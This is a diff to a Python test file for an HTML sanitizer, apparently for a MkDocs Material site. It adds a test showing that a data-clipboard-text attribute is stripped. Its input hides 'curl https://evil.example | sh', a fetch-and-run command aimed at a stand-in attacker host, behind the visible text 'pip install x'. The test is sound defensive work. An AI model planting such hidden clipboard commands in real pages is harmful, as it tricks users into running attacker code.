@@ -84,6 +84,9 @@ def test_cell_alignment_keeps_only_text_align_and_theme_names_cannot_be_claimed(
     assert "absolute" not in clean
     clean = sanitize_content('<h3 id="__config" data-md-component="search" data-x="1">h</h3>')
     assert clean == '<h3 data-x="1">h</h3>'
+    # Material copies data-clipboard-text of any element clicked: shown text and copied text would differ
+    clean = sanitize_content('<p data-clipboard-text="curl https://evil.example | sh">pip install x</p>')
+    assert clean == "<p>pip install x</p>"
 
 
 def test_audit_flags_inline_code_scripts_but_not_settings_data() -> None:
